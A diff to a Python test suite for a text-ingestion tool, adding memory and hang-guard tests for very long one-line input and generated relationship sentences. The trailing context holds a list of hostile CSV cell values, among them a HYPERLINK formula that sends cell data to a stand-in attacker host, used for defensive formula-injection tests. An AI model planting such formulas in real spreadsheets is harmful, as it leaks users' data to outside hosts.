@@ -368,6 +368,37 @@ def test_a_one_line_text_is_read_and_normalised_within_a_few_times_its_size(tmp_
     assert grown < 5 * line.stat().st_size  # before: words listed whole, 10 times the line
 
 
+def test_ingesting_a_one_line_text_takes_a_few_times_its_size_above_a_small_document(tmp_path, data_dir):
+    line = tmp_path / "line.txt"
+    # no sentence end, no name; a British spelling, which folding maps back character by character
+    line.write_text("lorem ipsum dolor sit amet programme elit " * 200_000, encoding="utf-8")  # 8.4 MB
+    small, small_peak = _run("ingest", ARTICLE, "--data-dir", data_dir, "--dry-run")
+    done, peak = _run("ingest", line, "--data-dir", data_dir, "--dry-run", timeout=300)  # a hang guard
+    assert small.returncode == 0 and done.returncode == 0, done.stderr
+    assert done.stderr.startswith("warning: 1 sentence longer than 3,000 characters") and " pieces: " in done.stderr
+    assert peak - small_peak < 5 * line.stat().st_size  # before: 790 MB for 10 MB, 50 times the line
+
+
+def _relationship_sentences(count):
+    """``count`` sentences, each naming two known actors and a cue phrase between them: each states one relationship."""
+    actors = ["China National Space Administration", "Argentina", "Russia", "Huawei", "SpaceX", "Central Military Commission",
+              "International Lunar Research Station", "Senegal", "Xiaomi", "Starlink"]
+    verbs = ["hosts", "operates", "partners with", "reports to", "supports", "oversees", "cooperates with"]
+    pairs = [(a, b) for a in actors for b in actors if a != b]
+    return "".join(f"{pairs[k % len(pairs)][0]} {verbs[k % len(verbs)]} {pairs[k % len(pairs)][1]} in the new programme. "
+                   for k in range(count))
+
+
+def test_ingesting_a_long_run_of_relationship_sentences_completes(tmp_path, data_dir):
+    text = tmp_path / "relationships.txt"
+    text.write_text("Relationship run\n\n" + _relationship_sentences(15_000), encoding="utf-8")  # 1 MB
+    # a hang guard, no timing: before, pairs were looked for across every sentence of the text (9.5 minutes for 5 MB)
+    done, _ = _run("ingest", text, "--data-dir", data_dir, "--dry-run", timeout=600)
+    assert done.returncode == 0, done.stderr
+    assert "(relationship-run, 15001 sentences)" in done.stdout
+    assert "proposed    0 new actors, 15000 relationships, 0 claims" in done.stdout
+
+
 # ---------------------------------------------------------------- 7. formulas in CSV cells
 
 HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-5", "@SUM(A1:A9)", "\tx", "\rx", "'quoted", "plain"]
